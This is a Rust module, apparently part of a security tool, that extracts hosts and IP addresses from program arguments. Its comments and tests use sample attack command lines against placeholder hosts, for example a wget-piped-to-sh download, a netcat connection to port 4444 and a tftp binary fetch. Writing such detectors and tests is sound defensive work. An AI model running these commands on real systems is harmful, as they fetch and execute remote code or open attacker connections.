//! Hosts mentioned in the arguments of a program: `wget http://bad.example/x`, `nc 192.0.2.7 4444`, `ssh -p 22 root@bad.example`.

use std::net::{IpAddr, Ipv6Addr};

/// Bytes of arguments that are searched.
const MAX_BYTES: usize = 64 * 1024;
/// Hosts that are yielded.
const MAX_HOSTS: usize = 512;

/// A host by address or by name.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Host<'a> {
    Address(IpAddr),
    Name(&'a str),
}

/// Calls `found` for each host that the arguments may mention.
///
/// A word is taken for a host when it looks like one and does not stand inside a path. A file name may look like a host name
/// (`run.sh`); only a feed that lists it makes anything of that.
pub(super) fn hosts<'a>(arguments: impl Iterator<Item = &'a str>, mut found: impl FnMut(Host<'a>)) {
    let mut room = MAX_BYTES;
    let mut left = MAX_HOSTS;
    for argument in arguments {
        if room == 0 || left == 0 {
            return;
        }
        let argument = defender_model::text::truncate(argument, room);
        room -= argument.len();
        // No host is without one of these.
        if argument.bytes().any(|b| matches!(b, b'.' | b':')) {
            words(argument, &mut left, &mut found);
        }
    }
}

fn words<'a>(text: &'a str, left: &mut usize, found: &mut impl FnMut(Host<'a>)) {
    let bytes = text.as_bytes();
    let mut at = 0;
    while at < bytes.len() {
        if !is_part(bytes[at]) {
            at += 1;
            continue;
        }
        let start = at;
        while at < bytes.len() && is_part(bytes[at]) {
            at += 1;
        }
        // `/x` is a component of a path, `//x` begins the host of a URL.
        let in_path = start > 0 && bytes[start - 1] == b'/' && (start == 1 || bytes[start - 2] != b'/');
        if in_path {
            continue;
        }
        if let Some(host) = host(&text[start..at]) {
            found(host);
            *left -= 1;
            if *left == 0 {
                return;
            }
        }
    }
}

fn is_part(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-' | b'_' | b':')
}

/// `name`, `name:port`, `192.0.2.1`, `192.0.2.1:80`, `2001:db8::1`. Brackets are no part of a word.
fn host(word: &str) -> Option<Host<'_>> {
    let word = word.trim_end_matches(['.', ':']);
    let first = match word.split_once(':') {
        None => word,
        Some((_, rest)) if rest.contains(':') => {
            return word.parse::<Ipv6Addr>().ok().map(|a| Host::Address(IpAddr::V6(a).to_canonical()));
        }
        Some((first, _)) => first,
    };
    let last = first.rsplit_once('.')?.1;
    if last.bytes().all(|b| b.is_ascii_digit()) {
        return first.parse().ok().map(Host::Address);
    }
    // Top-level domains are letters, or xn-- and more.
    let top = last.len() >= 2 && last.as_bytes()[0].is_ascii_alphabetic();
    (top && !first.starts_with(['.', '-'])).then_some(Host::Name(first))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn found(arguments: &[&str]) -> Vec<String> {
        let mut out = Vec::new();
        hosts(arguments.iter().copied(), |host| {
            out.push(match host {
                Host::Address(address) => address.to_string(),
                Host::Name(name) => name.to_owned(),
            });
        });
        out
    }

    #[test]
    fn hosts_of_urls_and_bare_ones() {
        for (arguments, expected) in [
            (&["wget", "http://bad.example/x.sh"][..], &["bad.example"][..]),
            (&["curl", "-s", "https://user:pw@Bad.Example:8443/a/b.c?d=e"], &["Bad.Example"]),
            (&["sh", "-c", "cd /tmp; wget -qO- 192.0.2.7/bins.sh|sh"], &["192.0.2.7"]),
            (&["nc", "192.0.2.7", "4444"], &["192.0.2.7"]),
            (&["nc", "192.0.2.7:4444"], &["192.0.2.7"]),
            (&["ssh", "root@host-1.bad.example"], &["host-1.bad.example"]),
            (&["wget", "http://[2001:db8::1]:8080/x"], &["2001:db8::1"]),
            (&["ping6", "2001:db8::2"], &["2001:db8::2"]),
            (&["ping", "::ffff:192.0.2.1"], &["192.0.2.1"]),
            (&["tftp", "-g", "-r", "mips", "bad.example."], &["bad.example"]),
            (&["--proxy=socks5://bad.example:1080"], &["bad.example"]),
            (&["/usr/lib/x.so", "./run.sh", "/etc/a.conf:/b.c"], &[]),
            (&["1.2.3", "1.2.3.4.5", "v1.2", "10.0.0.256", "-x", "a:b", "12:30:45", "a.b:"], &[]),
            (&["échec.example"], &["chec.example"]),
        ] {
            assert_eq!(found(arguments), expected, "{arguments:?}");
        }
    }

    #[test]
    fn work_is_bounded() {
        let many = "a.example ".repeat(100_000);
        assert_eq!(found(&[&many, "b.example"]).len(), MAX_HOSTS);
        let long = "x".repeat(MAX_BYTES);
        assert!(found(&[&long, "b.example"]).is_empty());
    }

    proptest! {
        #[test]
        fn any_text_is_an_argument(text in "\\PC{0,80}") {
            let _ = found(&[&text]);
        }

        #[test]
        fn every_url_gives_its_host(name in "[a-z][a-z0-9-]{0,9}(\\.[a-z]{2,5}){1,3}", port in 1u16.., path in "[a-z/]{0,8}") {
            prop_assert_eq!(&found(&[&format!("http://{name}:{port}/{path}")])[0], &name);
            prop_assert_eq!(&found(&[&format!("--url=ftp://u@{name}/{path}")])[0], &name);
        }
    }
}
